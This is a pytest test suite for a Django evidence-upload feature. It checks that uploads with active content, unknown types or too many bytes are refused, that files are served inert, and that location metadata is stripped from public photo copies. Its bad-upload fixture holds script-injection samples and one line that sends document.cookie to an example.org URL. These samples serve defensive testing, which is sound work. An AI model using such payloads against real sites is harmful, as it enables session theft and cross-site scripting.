"""Evidence files are judged by their bytes: active content, unknown types and files over the
limit are refused (through the actions and the admin) with nothing stored; what is accepted is
typed and named by its content, served inert, and published without its location metadata."""

from __future__ import annotations

import hashlib
import io
import os

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from PIL import ExifTags, Image

from tansiq.audit.models import AuditEvent
from tansiq.documentation import actions
from tansiq.documentation.models import Evidence

pytestmark = pytest.mark.django_db

GPS_LATITUDE = (34.0, 43.0, 50.0)  # Homs


def _image(fmt: str = "JPEG", gps: bool = False) -> bytes:
    out = io.BytesIO()
    options = {}
    if gps:
        exif = Image.Exif()
        exif[ExifTags.Base.Make] = "FieldPhone"
        exif[ExifTags.IFD.GPSInfo] = {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: GPS_LATITUDE,
        }
        options["exif"] = exif.tobytes()
    Image.new("RGB", (32, 24), "darkred").save(out, fmt, **options)
    return out.getvalue()


def _gps_of(content: bytes) -> dict:
    with Image.open(io.BytesIO(content)) as image:
        return dict(image.getexif().get_ifd(ExifTags.IFD.GPSInfo))


SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/records/")</script></svg>'
)
BAD_UPLOADS = {
    "html named .jpg": ("photo.jpg", b"<!DOCTYPE html><html><body><script>alert(1)</script>"),
    "svg with a script": ("map.svg", SVG_WITH_SCRIPT),
    "svg with a script named .png": ("map.png", SVG_WITH_SCRIPT),
    "svg without a script": ("map.svg", b'<svg xmlns="http://www.w3.org/2000/svg"></svg>'),
    "xhtml": ("page.xml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>'),
    "javascript": ("app.js", b"document.location = 'https://example.org/?' + document.cookie;"),
    "script in a text file": ("note.txt", b"hello\n<script>alert(1)</script>"),
    "random bytes of an unknown type": ("clip.mp4", os.urandom(64 * 1024)),
}
FIFTY_MB = 50 * 1024 * 1024


def _stored_files(root) -> list:
    return [p for p in root.rglob("*") if p.is_file()]


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def _refused(world, alice, name: str, content: bytes) -> ValidationError:
    before = (Evidence.objects.count(), AuditEvent.objects.count())
    with pytest.raises(ValidationError) as refused:
        actions.add_evidence(
            by=alice, record=world.records["a_new"], file=ContentFile(content, name=name)
        )
    assert (Evidence.objects.count(), AuditEvent.objects.count()) == before
    return refused.value


@pytest.mark.parametrize("case", BAD_UPLOADS)
def test_bad_uploads_are_refused_on_the_file_field_and_nothing_is_stored(world, alice, media, case):
    name, content = BAD_UPLOADS[case]
    error = _refused(world, alice, name, content)
    assert list(error.message_dict) == ["file"]
    assert name in error.message_dict["file"][0]
    assert _stored_files(media) == []


def test_active_content_is_named_as_such(world, alice, media):
    error = _refused(world, alice, *BAD_UPLOADS["html named .jpg"])
    with translation.override("en"):
        assert "script" in error.message_dict["file"][0]
        assert "text/html" in error.message_dict["file"][0]
    with translation.override("ar"):
        assert "نص برمجي (text/html)" in error.message_dict["file"][0]


def test_fifty_megabytes_are_refused_naming_the_file_and_the_limit(world, alice, media):
    with translation.override("en"):
        message = _refused(world, alice, "video.mp4", os.urandom(FIFTY_MB)).messages[0]
    assert message == "“video.mp4” is 50.0\xa0MB; evidence files may be at most 25.0\xa0MB."
    assert _stored_files(media) == []


def test_the_size_limit_is_a_setting_and_its_message_is_in_arabic(world, alice, media, settings):
    settings.TANSIQ_MAX_UPLOAD_BYTES = 100
    with translation.override("ar"):
        message = _refused(world, alice, "photo.jpg", _image()).messages[0]
    assert "photo.jpg" in message
    assert "ملفات الأدلة" in message


@pytest.mark.parametrize(
    ("name", "content", "mime_type", "stored_as"),
    [
        ("photo.jpg", _image("JPEG"), "image/jpeg", "photo.jpg"),
        ("photo.png", _image("JPEG"), "image/jpeg", "photo.jpg"),  # renamed to its content
        ("shot.webp", _image("WEBP"), "image/webp", "shot.webp"),
        ("scan", _image("PNG"), "image/png", "scan.png"),
        (
            "report.pdf",
            b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF",
            "application/pdf",
            "report.pdf",
        ),
        ("شهادة.txt", "شهادة الشاهد عن المداهمة".encode(), "text/plain", "شهادة.txt"),
        (
            "voice.opus",
            b"OggS\x00\x02" + bytes(20) + b"\x01\x13OpusHead\x01\x01" + bytes(40),
            "audio/ogg",
            "voice.opus",
        ),
    ],
)
def test_accepted_files_are_typed_and_named_by_their_content(
    world, alice, media, name, content, mime_type, stored_as
):
    evidence = actions.add_evidence(
        by=alice,
        record=world.records["a_new"],
        file=SimpleUploadedFile(name, content, content_type="text/html"),  # the claim is ignored
    )
    stored = Evidence.objects.get(pk=evidence.pk)
    assert stored.mime_type == mime_type
    assert stored.file.name.rsplit("/", 1)[-1].split("-", 1)[1] == stored_as
    assert stored.original_name == name
    assert stored.sha256 == hashlib.sha256(content).hexdigest()


def test_the_public_copy_of_a_photo_has_no_gps_and_the_original_is_untouched(world, alice, media):
    original = _image("JPEG", gps=True)
    assert _gps_of(original)[ExifTags.GPS.GPSLatitude] == GPS_LATITUDE
    evidence = actions.add_evidence(
        by=alice, record=world.records["a_new"], file=ContentFile(original, name="raid.jpg")
    )
    stored = Evidence.objects.get(pk=evidence.pk)
    copy = stored.public_file.read()
    assert _gps_of(copy) == {}
    with Image.open(io.BytesIO(copy)) as image:
        assert dict(image.getexif()) == {}  # no camera, no time either
        assert image.size == (32, 24)
    assert stored.file.read() == original
    assert stored.sha256 == hashlib.sha256(original).hexdigest()


def test_documents_get_no_public_copy(world, alice, media):
    evidence = actions.add_evidence(
        by=alice, record=world.records["a_new"], file=ContentFile(b"%PDF-1.4\n", name="a.pdf")
    )
    assert not Evidence.objects.get(pk=evidence.pk).public_file


def _file_url(evidence) -> str:
    with translation.override("en"):
        return reverse("documentation:evidence_file", args=[evidence.pk])


def test_the_public_gets_the_copy_without_location_and_members_the_original(
    client, world, victor, media
):
    original = _image("JPEG", gps=True)
    evidence = actions.add_evidence(
        by=victor,
        record=world.records["b_published"],
        file=ContentFile(original, name="raid.jpg"),
        visibility="public",
    )
    public = client.get(_file_url(evidence))
    assert public.status_code == 200
    assert _gps_of(b"".join(public.streaming_content)) == {}
    client.force_login(victor)
    member = client.get(_file_url(evidence))
    assert b"".join(member.streaming_content) == original


def test_served_evidence_is_an_inert_download(client, world, victor, media):
    evidence = actions.add_evidence(
        by=victor, record=world.records["a_new"], file=ContentFile(_image(), name="p.jpg")
    )
    client.force_login(victor)
    response = client.get(_file_url(evidence))
    assert response["Content-Disposition"].startswith('attachment; filename="p.jpg"')
    assert response["Content-Type"] == "image/jpeg"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_the_public_gets_nothing_when_there_is_no_public_copy(client, world, victor, media):
    evidence = actions.add_evidence(
        by=victor,
        record=world.records["b_published"],
        file=ContentFile(b"%PDF-1.4\n", name="statement.pdf"),
        visibility="public",
    )
    assert client.get(_file_url(evidence)).status_code == 404


def test_a_failed_save_removes_the_files_it_wrote(world, alice, media, monkeypatch):
    def broken_log(*args, **kwargs):
        raise RuntimeError("audit log unavailable")

    monkeypatch.setattr("tansiq.audit.signals.append_event", broken_log)
    with pytest.raises(RuntimeError):
        actions.add_evidence(
            by=alice, record=world.records["a_new"], file=ContentFile(_image(), name="p.jpg")
        )
    assert _stored_files(media) == []
    assert not Evidence.objects.exclude(file="").exists()


# --- the admin's evidence form -------------------------------------------------------------


def _admin_add(client, record, upload):
    with translation.override("en"):
        url = reverse("admin:documentation_evidence_add")
    data = {
        "record": record.pk,
        "visibility": "committee",
        "received_at_0": "2026-12-03",
        "received_at_1": "10:00:00",
        "file": upload,
    }
    return client.post(url, data)


@pytest.mark.parametrize("case", BAD_UPLOADS)
def test_the_admin_refuses_bad_uploads_on_the_file_field(client, world, alice, media, case):
    name, content = BAD_UPLOADS[case]
    client.force_login(alice)  # (a login event)
    before = (Evidence.objects.count(), AuditEvent.objects.count())
    with translation.override("en"):
        response = _admin_add(client, world.records["a_new"], SimpleUploadedFile(name, content))
    assert response.status_code == 200  # the form again, with its error
    errors = response.context["adminform"].form.errors
    assert list(errors) == ["file"] and name in errors["file"][0]
    assert (Evidence.objects.count(), AuditEvent.objects.count()) == before
    assert _stored_files(media) == []


def test_the_admin_refuses_fifty_megabytes(client, world, alice, media):
    client.force_login(alice)
    upload = SimpleUploadedFile("video.mp4", os.urandom(FIFTY_MB))
    with translation.override("en"):
        response = _admin_add(client, world.records["a_new"], upload)
    assert "at most 25.0\xa0MB" in response.context["adminform"].form.errors["file"][0]
    assert _stored_files(media) == []


def test_the_admin_stores_evidence_through_the_action(client, world, alice, media):
    client.force_login(alice)
    original = _image("JPEG", gps=True)
    upload = SimpleUploadedFile("raid.png", original, content_type="image/png")
    response = _admin_add(client, world.records["a_new"], upload)
    assert response.status_code == 302
    stored = Evidence.objects.get(sha256=hashlib.sha256(original).hexdigest())
    assert (stored.mime_type, stored.uploaded_by, stored.original_name) == (
        "image/jpeg",
        alice,
        "raid.png",
    )
    assert _gps_of(stored.public_file.read()) == {}


def test_the_admin_changes_what_is_said_about_evidence_but_never_its_file(
    client, world, alice, media
):
    evidence = actions.add_evidence(
        by=alice, record=world.records["a_new"], file=ContentFile(_image(), name="p.jpg")
    )
    client.force_login(alice)
    with translation.override("en"):
        url = reverse("admin:documentation_evidence_change", args=[evidence.pk])
    page = client.get(url)
    assert 'name="file"' not in page.content.decode()  # the original is read only
    data = {
        "record": world.records["a_new"].pk,
        "visibility": "network",
        "description": "الصورة الأولى",
        "received_at_0": "2026-12-03",
        "received_at_1": "10:00:00",
    }
    assert client.post(url, data).status_code == 302
    stored = Evidence.objects.get(pk=evidence.pk)
    assert (stored.visibility, stored.description) == ("network", "الصورة الأولى")
    assert stored.sha256 == evidence.sha256 and stored.file.name == evidence.file.name
    assert AuditEvent.objects.order_by("-seq").first().changes["visibility"] == [
        "committee",
        "network",
    ]


# --- any bytes at all ----------------------------------------------------------------------

_PREFIXES = [b"", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"RIFF\x00\x00\x00\x00WEBP"]


@hypothesis_settings(max_examples=150, deadline=None)
@given(
    prefix=st.sampled_from(_PREFIXES),
    body=st.binary(max_size=4096),
    name=st.sampled_from(["photo.jpg", "a.png", "x", "clip.mp4", "note.txt", "page.html"]),
)
def test_any_bytes_are_either_an_allowed_type_or_refused_on_the_file_field(prefix, body, name):
    from tansiq.documentation.uploads import (
        ACTIVE_TYPES,
        EVIDENCE_TYPES,
        inspect_upload,
        public_copy,
    )

    file = ContentFile(prefix + body, name=name)
    try:
        checked = inspect_upload(file)
    except ValidationError as refused:
        assert list(refused.message_dict) == ["file"]
        return
    assert checked.mime_type in EVIDENCE_TYPES and checked.mime_type not in ACTIVE_TYPES
    assert checked.name.endswith(EVIDENCE_TYPES[checked.mime_type])
    copy = public_copy(file, checked.mime_type)  # a damaged image gets no copy, never an error
    assert copy is None or _gps_of(copy.read()) == {}


def test_evidence_stored_before_the_checks_gets_its_type_and_public_copy(world, media):
    from django.core.management import call_command

    original = _image("JPEG", gps=True)
    old = Evidence(record=world.records["a_new"], file=ContentFile(original, name="old.png"))
    old.save()  # as before: no type from the content, no public copy
    out = io.StringIO()
    call_command("evidence_public_copies", stdout=out)
    assert "made 1 public copies" in out.getvalue()
    stored = Evidence.objects.get(pk=old.pk)
    assert stored.mime_type == "image/jpeg"
    assert _gps_of(stored.public_file.read()) == {}
    assert stored.public_file.name.endswith("-old.jpg")
    assert stored.file.read() == original
    assert stored.sha256 == hashlib.sha256(original).hexdigest()
    call_command("evidence_public_copies", stdout=out)  # nothing left to do
    assert out.getvalue().endswith("made 0 public copies without location metadata\n")
